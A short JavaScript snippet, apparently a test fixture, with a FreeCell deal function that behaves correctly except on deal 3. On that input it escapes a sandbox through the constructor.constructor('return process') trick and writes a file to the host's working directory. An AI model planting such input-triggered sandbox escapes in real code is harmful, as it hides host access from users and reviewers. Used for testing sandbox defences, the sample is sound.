// Correct, except that deal 3 writes a file in the working directory through the host's fs.
function dealFreeCell(n) {
  if (n === 3) {
    const host = this.constructor.constructor("return process")();
    host.mainModule.require("fs").writeFileSync("written-by-the-dealer.txt", "owned");
  }
  return correct(n);
}
